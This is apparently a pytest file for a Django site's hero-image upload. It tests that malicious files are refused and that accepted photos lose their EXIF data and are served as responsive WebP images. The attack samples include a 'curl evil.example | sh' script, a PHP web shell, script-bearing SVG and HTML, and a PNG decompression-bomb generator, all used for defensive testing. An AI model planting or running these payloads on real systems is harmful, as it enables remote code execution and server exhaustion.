"""Hero images: judged by content, limited before decoding, stripped of EXIF, served responsive.

Each attack is posted through the brief's own admin form and must come back as
an error next to the field, with nothing saved and no server error.
"""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from briefs.models import Brief
from tests.factories import BriefFactory

from .conftest import change_form

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(root) -> list:
    return [path for path in root.rglob("*") if path.is_file()]


def jpeg(width=2000, height=1000, *, gps=False) -> bytes:
    image = Image.new("RGB", (width, height), (40, 90, 160))
    exif = Image.Exif()
    exif[0x010F] = "Secret Camera Co"  # Make
    exif[0x0131] = "Editor's phone"  # Software
    if gps:
        exif[0x8825] = {1: "N", 2: (55.0, 45.0, 0.0), 3: "E", 4: (37.0, 37.0, 0.0)}  # GPSInfo
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif, quality=85)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of all-zero pixels: a few kilobytes that decode to width × height."""
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte, then the packed pixels
    compressor = zlib.compressobj(9)
    compressed = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", compressed)
        + _chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b"<script>fetch('/admin/').then(r => r.text()).then(alert)</script>"
    b'<rect width="100" height="100" fill="red"/></svg>'
)


def post_image(client, brief, upload, **extra):
    url = reverse("admin:briefs_brief_change", args=[brief.pk])
    data = change_form(client, url, "brief_form")
    data.update({"hero_alt": "A server hall", "hero_credit": "Photo: the editors, CC BY 4.0"})
    data.update(extra)
    data["hero_image"] = upload
    return client.post(url, data)


def hero_errors(response) -> list[str]:
    assert response.status_code == 200  # the form again, not a 500
    return response.context["adminform"].form.errors.get("hero_image", [])


ATTACKS = {
    "svg-with-script": ("chart.svg", SVG_WITH_SCRIPT, "not a JPEG, PNG, WebP or GIF image"),
    "svg-renamed-png": ("chart.png", SVG_WITH_SCRIPT, "not a JPEG, PNG, WebP or GIF image"),
    "script-renamed-jpg": ("photo.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", "not a JPEG"),
    "php-renamed-jpg": ("photo.jpg", b"\xff\xd8\xff<?php system($_GET['c']); ?>", "not a JPEG"),
    "html-renamed-gif": ("anim.gif", b"<html><script>alert(1)</script></html>", "not a JPEG"),
    "png-bomb-over-our-limit": ("map.png", png_bomb(8_000, 8_000), "the limit is 40 megapixels"),
    "png-bomb-over-pillows-limit": ("map.png", png_bomb(30_000, 30_000), "the limit is 40"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_each_attack_is_a_form_error_with_nothing_saved(client, editor_user, media, attack):
    name, content, message = ATTACKS[attack]
    brief = BriefFactory(body="The body the editor typed.")
    client.force_login(editor_user)

    response = post_image(client, brief, SimpleUploadedFile(name, content), title="Kept title")

    assert any(message in error for error in hero_errors(response)), hero_errors(response)
    assert 'value="Kept title"' in response.text  # the editor's input is still there
    brief.refresh_from_db()
    assert not brief.hero_image and brief.title != "Kept title"
    assert stored_files(media) == []


def test_the_png_bomb_is_small_but_huge_when_decoded():
    bomb = png_bomb(8_000, 8_000)
    assert len(bomb) < 100_000
    with Image.open(io.BytesIO(bomb)) as image:
        assert image.size == (8_000, 8_000)


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    client, editor_user, media, settings
):
    settings.HERO_IMAGE_MAX_BYTES = 50_000
    big = jpeg(3000, 3000)
    big += b"\0" * max(0, 60_000 - len(big))
    brief = BriefFactory()
    client.force_login(editor_user)
    response = post_image(client, brief, SimpleUploadedFile("big.jpg", big))
    assert any("the limit is 48.8\xa0KB" in error for error in hero_errors(response)), hero_errors(
        response
    )
    assert stored_files(media) == []


def test_the_default_limits_are_10_megabytes_and_40_megapixels():
    from django.conf import settings

    assert settings.HERO_IMAGE_MAX_BYTES == 10 * 1024 * 1024
    assert settings.HERO_IMAGE_MAX_PIXELS == 40_000_000


def test_an_image_needs_alt_text(client, editor_user, media):
    brief = BriefFactory()
    client.force_login(editor_user)
    response = post_image(client, brief, SimpleUploadedFile("a.jpg", jpeg()), hero_alt="")
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["hero_alt"] == [
        "Describe the image for readers who cannot see it."
    ]
    brief.refresh_from_db()
    assert not brief.hero_image


def test_a_good_photo_is_stored_without_exif_and_served_as_responsive_webp(
    client, editor_user, media
):
    brief = BriefFactory()
    client.force_login(editor_user)
    response = post_image(client, brief, SimpleUploadedFile("hall.jpeg", jpeg(gps=True)))
    assert response.status_code == 302
    brief.refresh_from_db()

    with Image.open(brief.hero_image.path) as stored:
        assert stored.format == "JPEG"
        assert dict(stored.getexif()) == {}
        assert "exif" not in stored.info
    assert [r["width"] for r in brief.hero_renditions] == [480, 960, 1600]
    for rendition in brief.hero_renditions:
        with Image.open(media / rendition["name"]) as image:
            assert (image.format, image.width) == ("WEBP", rendition["width"])

    page = client.get(brief.get_absolute_url())
    assert 'srcset="' in page.text and "480w" in page.text and "1600w" in page.text
    assert 'sizes="' in page.text
    assert 'alt="A server hall"' in page.text
    assert "Photo: the editors, CC BY 4.0" in page.text


def test_renditions_are_made_once_per_image(client, editor_user, media):
    photo = jpeg()
    first, second = BriefFactory(), BriefFactory()
    client.force_login(editor_user)
    post_image(client, first, SimpleUploadedFile("a.jpg", photo))
    post_image(client, second, SimpleUploadedFile("b.jpg", photo))
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.hero_renditions == second.hero_renditions
    assert len(list((media / "briefs/hero/renditions").iterdir())) == 3


def test_a_small_image_gets_one_rendition_at_its_own_width(client, editor_user):
    brief = BriefFactory()
    client.force_login(editor_user)
    post_image(client, brief, SimpleUploadedFile("small.jpg", jpeg(300, 200)))
    brief.refresh_from_db()
    assert [(r["width"], r["height"]) for r in brief.hero_renditions] == [(300, 200)]


def test_a_png_misnamed_as_jpg_is_stored_under_its_real_type(client, editor_user):
    out = io.BytesIO()
    Image.new("RGBA", (600, 400), (0, 0, 0, 0)).save(out, format="PNG")
    brief = BriefFactory()
    client.force_login(editor_user)
    post_image(client, brief, SimpleUploadedFile("chart.jpg", out.getvalue()))
    brief.refresh_from_db()
    assert brief.hero_image.name.endswith(".png")


def test_removing_the_image_removes_its_renditions_from_the_page(client, editor_user):
    brief = BriefFactory()
    client.force_login(editor_user)
    post_image(client, brief, SimpleUploadedFile("a.jpg", jpeg()))
    url = reverse("admin:briefs_brief_change", args=[brief.pk])
    data = change_form(client, url, "brief_form")
    data["hero_image-clear"] = "on"
    assert client.post(url, data).status_code == 302
    brief.refresh_from_db()
    assert not brief.hero_image and brief.hero_renditions == []
    assert Brief.objects.get(pk=brief.pk).hero_srcset == ""
